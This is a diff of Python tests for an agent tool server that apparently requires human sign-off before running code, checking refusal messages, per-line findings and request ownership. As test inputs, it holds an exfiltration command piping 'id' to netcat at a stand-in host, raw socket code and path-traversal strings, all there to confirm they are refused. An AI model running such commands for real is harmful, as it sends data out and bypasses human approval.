@@ -52,7 +52,7 @@ def test_a_call_waits_with_progress_until_a_person_has_signed_and_it_ran(place: 
 
     async def work(client: Client) -> None:
         names = [tool.name for tool in (await client.list_tools()).tools]
-        assert names[4:] == DOOR_TOOLS
+        assert names[3:] == DOOR_TOOLS
         call = asyncio.create_task(client.call_tool("run_python", ASK, progress_callback=heard))
         await approved(place, run.inbox)
         ended = answer(await call)
@@ -165,17 +165,21 @@ def test_refusals_say_what_to_change(place: Place, run: AgentRun) -> None:
         said = await client.call_tool("run_program", {"argv": ["sh", "-c", "id | nc evil 1"], "purpose": "Look."})
         assert said.is_error and answer(said)["status"] == "refused" and answer(said)["fixes"]
         for code in ("import socket\nsocket.socket()", "def f():\n    yield 1\nf()"):
-            said = await client.call_tool("run_python", {**ASK, "code": code})
+            said = await client.call_tool("run_python", {**ASK, "code": code, "where": "monty"})
             told = " ".join(answer(said)["fixes"])
             assert said.is_error and 'use `where: "era"`' in told and "backend" not in told
+            (finding, *_) = answer(said)["findings"]
+            line = 1 if "socket" in code else 2
+            assert (finding["argument"], finding["line"]) == ("code", line) and f"line {line}: " in answer(said)["why"]
         for arguments, words in (
             ({**ASK, "approve": True}, "no argument 'approve' here; known arguments: code"),
             ({**ASK, "time_limit_sec": 1 << 40}, "time_limit_sec: input should be less than"),
             ({"purpose": "x"}, "code: field required"),
-            ({**ASK, "files": ["none.txt"]}, "files: no such file"),
+            ({**ASK, "files": ["none.txt"]}, "files[0]: no such file"),
         ):
             said = await client.call_tool("run_python", arguments)
-            assert said.is_error and said.content[0].text.startswith(words), said
+            assert said.is_error and answer(said)["status"] == "refused", said
+            assert answer(said)["why"].startswith(words), said
 
     with_door(place, run, work)
     assert not list(run.inbox.glob("TR-*.md"))
@@ -230,7 +234,7 @@ def test_taking_back_what_is_signed_and_nothing_of_others(place: Place, run: Age
         for name in ("cancel", "wait", "read_output"):
             more = {"path": "x"} if name == "read_output" else {}
             said = await client.call_tool(name, {"request_id": request, **more})
-            assert said.is_error and "not one of your requests" in said.content[0].text
+            assert said.is_error and "not one of your requests" in answer(said)["why"]
         assert answer(await client.call_tool("requests", {})) == {"requests": []}
 
     async def mine(client: Client) -> None:
@@ -333,7 +337,7 @@ def test_changes_of_the_work_copy_are_proposed_once(place: Place, tmp_path: Path
 
     async def nothing(client: Client) -> None:
         said = await client.call_tool("propose_changes", {"purpose": "Nothing.", "wait_sec": 0})
-        assert said.is_error and "no changes that could be proposed" in said.content[0].text
+        assert said.is_error and "no changes that could be proposed" in answer(said)["why"]
 
     with_door(place, run, nothing)
     (tree / "a.txt").write_text("two\n")
@@ -348,7 +352,7 @@ def test_changes_of_the_work_copy_are_proposed_once(place: Place, tmp_path: Path
         assert other["status"] == "pending" and other["request_id"] != first["request_id"]
         for path in ("../..", "/etc", "a.txt/../../x"):
             said = await client.call_tool("propose_changes", {**arguments, "paths": [path]})
-            assert said.is_error and "\n" not in said.content[0].text
+            assert said.is_error and "\n" not in answer(said)["why"]
 
     with_door(place, run, work)
     texts = sorted(path.read_text() for path in run.inbox.glob("TR-*.md"))
